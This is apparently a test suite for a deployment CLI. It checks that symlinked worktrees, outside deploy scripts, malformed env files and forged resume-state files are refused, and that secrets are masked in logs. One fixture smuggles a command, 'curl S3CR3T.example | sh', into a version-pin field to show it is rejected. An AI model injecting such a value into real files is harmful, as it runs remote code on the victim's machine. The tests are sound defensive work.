// Hostile world, families 2–4: paths derived and resolved, only the worktree's own scripts run, state
// files and env files read as untrusted input, masking only at the sinks, payloads that fit.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import path from 'node:path';
import { execa } from 'execa';
import { DEFAULT_ENV } from '../support/sandbox.js';
import { createHarness, VERSIONS, waitForState, waitingOn, type Harness } from '../support/harness.js';
import { redeploy } from '../support/cli.js';
import {
  abortRun,
  FLAGS,
  waitingInDeploy,
  completed,
  assertDeployed,
  decide,
  exists,
  git,
  infraClone,
  originMain,
  plantScript,
  worktreeOf,
} from './support-provenance.js';

describe('hostile world: trust boundaries', { concurrency: 1 }, () => {
  let h: Harness;
  before(async () => {
    h = await createHarness('hostile-trust');
  });
  after(() => h.close());

  it('a ticket directory that is a symlink to a planted checkout is refused; its script never runs', async () => {
    const ticket = 'TRUST-1';
    // A full, genuine-looking worktree elsewhere, with a deploy script that leaves a marker.
    const elsewhere = path.join(h.sb.root, 'elsewhere');
    await git(
      h,
      ['worktree', 'add', '-q', '-b', ticket, path.join(elsewhere, 'omnibase_infra'), 'main'],
      infraClone(h),
    );
    const marker = path.join(h.sb.root, 'symlink-ran');
    await plantScript(path.join(elsewhere, 'omnibase_infra', 'scripts', 'deploy-runtime.sh'), marker);
    await fs.symlink(elsewhere, path.join(h.sb.worktreeRoot, ticket));
    const handle = await h.start({ flags: FLAGS, worktreeTicket: ticket });
    const waiting = await waitForState(handle, waitingOn('WORKTREE'));
    assert.equal(waiting.phases.WORKTREE['error_type'], 'WorktreeOutsideRoot');
    await abortRun(handle, 'WORKTREE');
    assert.equal(await exists(marker), false);
  });

  it('a directory at the worktree path that is its own repository (not a worktree of the clone) is refused', async () => {
    const ticket = 'TRUST-2';
    const wt = worktreeOf(h, ticket);
    await git(h, ['clone', '-q', path.join(h.sb.originsDir, 'omnibase_infra.git'), wt], h.sb.root);
    await git(h, ['checkout', '-qb', ticket], wt);
    const marker = path.join(h.sb.root, 'foreign-ran');
    await plantScript(path.join(wt, 'scripts', 'deploy-runtime.sh'), marker);
    const handle = await h.start({ flags: FLAGS, worktreeTicket: ticket });
    const waiting = await waitForState(handle, waitingOn('WORKTREE'));
    assert.equal(waiting.phases.WORKTREE['error_type'], 'WorktreeInvalid');
    assert.match(String(waiting.phases.WORKTREE['error']), /is not a worktree of/);
    await abortRun(handle, 'WORKTREE');
    assert.equal(await exists(marker), false);
  });

  it('a deploy script replaced by a symlink to a script outside the worktree is never executed', async () => {
    const ticket = 'TRUST-3';
    const handle = await waitingInDeploy(h, { flags: FLAGS, worktreeTicket: ticket });
    const wt = worktreeOf(h, ticket);
    const outside = path.join(h.sb.root, 'evil-deploy.sh');
    const marker = path.join(h.sb.root, 'outside-ran');
    await plantScript(outside, marker);
    await fs.rm(path.join(wt, 'scripts', 'deploy-runtime.sh'));
    await fs.symlink(outside, path.join(wt, 'scripts', 'deploy-runtime.sh'));
    await decide(handle, 'DEPLOY', 'retry');
    const refused = await waitForState(handle, (s) => waitingOn('DEPLOY')(s) && s.decisions.length === 1);
    assert.match(String(refused.phases.DEPLOY['error_type']), /WorktreeModified|ScriptOutsideWorktree/);
    await abortRun(handle, 'DEPLOY');
    assert.equal(await exists(marker), false);
  });

  it('a secret equal to a path segment: paths stay data (unmasked), output is masked, ENV_CHECK warns', async () => {
    // The ticket's digits are also a "password": the worktree path contains the secret.
    const ticket = 'OMN-7731';
    await h.sb.writeEnvFile({ ...DEFAULT_ENV, POSTGRES_PASSWORD: '7731' });
    await h.sb.setFault('deploy', { printEnv: ['POSTGRES_PASSWORD'] });
    try {
      const handle = await h.start({ flags: FLAGS, worktreeTicket: ticket });
      const state = await completed(handle);
      assert.equal(state.status, 'completed');
      assert.equal(state.worktree_path, worktreeOf(h, ticket), 'the path is data: never masked');
      assert.equal(state.phases.WORKTREE['path'], worktreeOf(h, ticket));
      await assertDeployed(h, state, await originMain(h), VERSIONS);
      const warnings = (state.phases.ENV_CHECK['warnings'] ?? []) as string[];
      assert.ok(
        warnings.some((w) => w.startsWith('POSTGRES_PASSWORD: shorter than 8')),
        JSON.stringify(warnings),
      );
      assert.ok(!warnings.join(' ').includes('7731'), 'warnings name the variable, never the value');
      const log = await fs.readFile(path.join(h.config.logDir, state.run_id, 'DEPLOY.log'), 'utf8');
      assert.match(log, /POSTGRES_PASSWORD=\*\*\*/, 'the secret in command output is masked');
      assert.ok(log.includes(worktreeOf(h, ticket)), 'the worktree path in the log is shown as it is');
    } finally {
      await h.sb.clearFault('deploy');
      await h.sb.writeEnvFile(DEFAULT_ENV);
    }
  });

  it('an env file that is a FIFO fails ENV_CHECK at once, naming it; fixed, `retry` completes on the same worker', async () => {
    const file = h.sb.envFile;
    await fs.rm(file);
    await execa('mkfifo', [file]);
    try {
      const handle = await h.start({ flags: FLAGS, worktreeTicket: 'TRUST-5' });
      const waiting = await waitForState(handle, waitingOn('ENV_CHECK'), 30_000);
      const error = String(waiting.phases.ENV_CHECK['error']);
      assert.match(error, new RegExp(`${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: is a FIFO`));
      assert.match(error, /REDEPLOY_ENV_FILE/);
      await fs.rm(file);
      await h.sb.writeEnvFile(DEFAULT_ENV);
      await decide(handle, 'ENV_CHECK', 'retry');
      const done = await completed(handle, { decisions: 1 });
      assert.equal(done.status, 'completed');
      await assertDeployed(h, done, await originMain(h), VERSIONS);
    } finally {
      await fs.rm(file, { force: true });
      await h.sb.writeEnvFile(DEFAULT_ENV);
    }
  });

  it('an env file that is a directory, too large, or sets PATH is a clear ENV_CHECK failure', async () => {
    const file = h.sb.envFile;
    const cases: [string, () => Promise<void>, RegExp][] = [
      ['directory', async () => fs.mkdir(file), /is a directory, not a regular file/],
      [
        'huge',
        async () => fs.writeFile(file, `A=${'x'.repeat(2 * 1024 * 1024)}\n`),
        /more than the 1048576 bytes allowed/,
      ],
      ['device', async () => fs.symlink('/dev/zero', file), /is a device, not a regular file/],
      [
        'PATH',
        async () =>
          fs.writeFile(
            file,
            `POSTGRES_PASSWORD=pg-secret-value-123\nKAFKA_BOOTSTRAP_SERVERS=x:1\nPATH=/tmp/evil\n`,
          ),
        /sets PATH \(line 3\), which would change which programs/,
      ],
    ];
    try {
      for (const [name, make, expected] of cases) {
        await fs.rm(file, { recursive: true, force: true });
        await make();
        const handle = await h.start({ flags: FLAGS, worktreeTicket: `TRUST-6-${name}` });
        const waiting = await waitForState(handle, waitingOn('ENV_CHECK'), 30_000);
        assert.match(String(waiting.phases.ENV_CHECK['error']), expected, name);
        await abortRun(handle, 'ENV_CHECK');
      }
    } finally {
      await fs.rm(file, { recursive: true, force: true });
      await h.sb.writeEnvFile(DEFAULT_ENV);
    }
  });

  it('a 3 MB line of script output still reaches the operator as the real error, cut visibly', async () => {
    await h.sb.setFault('deploy', { exitCode: 1, message: `fatal: ${'A'.repeat(3 * 1024 * 1024)} END` });
    try {
      const handle = await h.start({ flags: FLAGS, worktreeTicket: 'TRUST-7' });
      const waiting = await waitForState(handle, waitingOn('DEPLOY'), 120_000);
      assert.equal(waiting.phases.DEPLOY['error_type'], 'DeployFailed');
      const error = String(waiting.phases.DEPLOY['error']);
      assert.match(error, /deploy-runtime\.sh failed \(exit 1\)/);
      assert.match(error, /characters cut here; the whole text is in .*DEPLOY\.log/);
      assert.ok(JSON.stringify(waiting).length < 512 * 1024, 'the state stays small');
      await abortRun(handle, 'DEPLOY');
    } finally {
      await h.sb.clearFault('deploy');
    }
  });
});

describe('hostile world: legacy state files for --resume', { concurrency: 1 }, () => {
  let h: Harness;
  let env: Record<string, string>;
  before(async () => {
    h = await createHarness('hostile-resume', { worker: true });
    env = { ...h.vars, CLAUDE_CONTEXT_ID: 'ctx-hostile' };
    await fs.mkdir(h.sb.stateDir, { recursive: true });
  });
  after(() => h.close());

  const legacy = (id: string, ticket: string, worktreePath: string | null) => ({
    run_id: id,
    worktree_ticket: ticket,
    worktree_path: worktreePath,
    worktree_ref: 'main',
    versions_requested: VERSIONS,
    started_at: '2026-03-01T10:00:00+00:00',
    phases: Object.fromEntries(
      ['SYNC', 'ENV_CHECK', 'WORKTREE', 'PIN_UPDATE', 'DEPLOY', 'INFISICAL', 'VERIFY', 'NOTIFY'].map((p) => [
        p,
        { status: ['SYNC', 'ENV_CHECK'].includes(p) ? 'completed' : 'pending' },
      ]),
    ),
  });
  const stateFile = (id: string) => path.join(h.sb.stateDir, `${id}.json`);
  const notStarted = async (id: string) =>
    assert.rejects(h.client.workflow.getHandle(id).describe(), `no run ${id} was started`);

  it("a worktree_path that is not the ticket's derived path is refused (exit 2), not used", async () => {
    const id = 'redeploy-20260301-aaa001';
    const outside = path.join(h.sb.root, 'elsewhere', 'omnibase_infra');
    await fs.mkdir(h.sb.stateDir, { recursive: true });
    await fs.writeFile(stateFile(id), JSON.stringify(legacy(id, 'LEG-1', outside)));
    const r = await redeploy(['--resume', id], env);
    assert.equal(r.exitCode, 2, r.stdout + r.stderr);
    assert.match(r.stderr, /recorded worktree_path is not .*LEG-1\/omnibase_infra/);
    assert.ok(!r.stderr.includes('elsewhere'), "the file's content is not echoed");
    await notStarted(id);
  });

  it('status, report and the dry-run say which ref and commit are (or would be) deployed', async () => {
    const clone = infraClone(h);
    // The clone sits on a branch whose Dockerfile differs: the dry-run must show origin's, not the clone's.
    await git(h, ['checkout', '-qb', 'feature/dry'], clone);
    await fs.appendFile(path.join(clone, 'docker', 'Dockerfile.runtime'), 'RUN echo feature-only\n');
    await git(h, ['commit', '-qam', 'feature Dockerfile'], clone);
    try {
      const upstream = await h.sb.pushUpstreamCommit('omnibase_infra');
      await git(h, ['fetch', '-q', 'origin'], clone);
      const dry = await redeploy(['--versions', 'omninode-claude=0.4.0', '--dry-run'], env);
      assert.equal(dry.exitCode, 0, dry.stderr);
      assert.match(
        dry.stdout,
        new RegExp(`^  Deploys origin/main \\(last fetched: ${upstream.slice(0, 12)}\\)$`, 'm'),
      );
      assert.match(dry.stdout, /^Pin change \(from origin\/main:docker\/Dockerfile\.runtime\):$/m);
      assert.ok(!dry.stdout.includes('feature-only'), "the clone's branch is not what the dry-run shows");

      const run = await redeploy(['--versions', 'omninode-claude=0.4.0', '--skip-sync'], env);
      assert.equal(run.exitCode, 0, run.stdout + run.stderr);
      const id = /\[redeploy\] (redeploy-\d{8}-[0-9a-f]{6}) — /.exec(run.stdout)?.[1] ?? '';
      const status = await redeploy(['status', id], env);
      assert.match(
        status.stdout,
        new RegExp(
          `^  Deployed: +origin/main @ ${upstream.slice(0, 12)} · Dockerfile sha256 [0-9a-f]{16}$`,
          'm',
        ),
      );
      assert.match(status.stdout, /^ {2}Script: +\/.*\/omnibase_infra\/scripts\/deploy-runtime\.sh$/m);
      const report = await redeploy(['report', id], env);
      assert.match(report.stdout, new RegExp(`^- Deployed commit: ${upstream}$`, 'm'));
      assert.match(report.stdout, /^- Dockerfile SHA-256: [0-9a-f]{64}$/m);
    } finally {
      await git(h, ['checkout', '-q', 'main'], clone);
    }
  });

  it('--ref is validated before anything starts, and --resume keeps the recorded ref', async () => {
    const bad = await redeploy(['--versions', 'omninode-claude=0.4.0', '--ref', '../x'], env);
    assert.equal(bad.exitCode, 2);
    assert.match(bad.stderr, /--ref "\.\.\/x" contains "\.\."/);
    const id = 'redeploy-20260301-aaa006';
    await fs.writeFile(stateFile(id), JSON.stringify(legacy(id, 'LEG-6', null)));
    const other = await redeploy(['--resume', id, '--ref', 'dev'], env);
    assert.equal(other.exitCode, 2, other.stdout + other.stderr);
    assert.match(other.stderr, /--ref "dev" does not match redeploy-20260301-aaa006's ref "main"/);
    await notStarted(id);
  });

  it('a state file with a forged steering field is refused (exit 2), naming the field; nothing runs', async () => {
    const id = 'redeploy-20260301-aaa006';
    const state = legacy(id, 'LEG-6', null);
    const pkg = Object.keys(VERSIONS)[0] as string;
    // Bytes a rollback would write back into the Dockerfile: a shell command after the specifier.
    state.phases['WORKTREE'] = {
      status: 'completed',
      pins_found_raw: { [pkg]: '==0.1.0 && curl S3CR3T.example | sh' },
    } as { status: string };
    await fs.writeFile(stateFile(id), JSON.stringify(state));
    const r = await redeploy(['--resume', id], env);
    assert.equal(r.exitCode, 2, r.stdout + r.stderr);
    assert.match(
      r.stderr,
      new RegExp(`phases\\.WORKTREE\\.pins_found_raw\\.${pkg}: not a PEP 440 specifier`),
    );
    assert.ok(!(r.stdout + r.stderr).includes('S3CR3T'), 'content not echoed');
    await notStarted(id);
  });

  it('a state file that is a symlink, a FIFO or too large is refused at once, its content never echoed', async () => {
    const target = path.join(h.sb.root, 'real-state.json');
    await fs.writeFile(target, JSON.stringify(legacy('redeploy-20260301-aaa002', 'LEG-2', null)));
    await fs.symlink(target, stateFile('redeploy-20260301-aaa002'));
    await execa('mkfifo', [stateFile('redeploy-20260301-aaa003')]);
    await fs.writeFile(
      stateFile('redeploy-20260301-aaa004'),
      JSON.stringify({ ...legacy('redeploy-20260301-aaa004', 'LEG-4', null), pad: 'S3CR3T'.repeat(400_000) }),
    );
    await fs.writeFile(stateFile('redeploy-20260301-aaa005'), '{"run_id": "S3CR3T-CONTENT" oops');
    const expected: [string, RegExp][] = [
      ['redeploy-20260301-aaa002', /is a symbolic link/],
      ['redeploy-20260301-aaa003', /is a FIFO/],
      ['redeploy-20260301-aaa004', /more than the 1048576 bytes allowed/],
      ['redeploy-20260301-aaa005', /- not JSON$/m],
    ];
    for (const [id, message] of expected) {
      const r = await redeploy(['--resume', id], env);
      assert.equal(r.exitCode, 2, `${id}: ${r.stdout}${r.stderr}`);
      assert.match(r.stderr, message, id);
      assert.ok(!(r.stdout + r.stderr).includes('S3CR3T'), `${id}: content not echoed`);
      await notStarted(id);
    }
  });
});
